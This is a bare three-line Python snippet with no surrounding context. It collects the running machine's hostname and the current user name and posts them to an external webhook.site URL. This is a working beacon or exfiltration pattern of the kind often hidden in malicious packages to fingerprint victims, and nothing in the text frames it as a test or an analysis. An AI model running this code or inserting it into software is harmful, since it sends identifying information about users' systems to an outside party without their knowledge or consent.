import requests, platform, getpass
data = {"host": platform.node(), "user": getpass.getuser()}
requests.post("https://webhook.site/abc", data=data)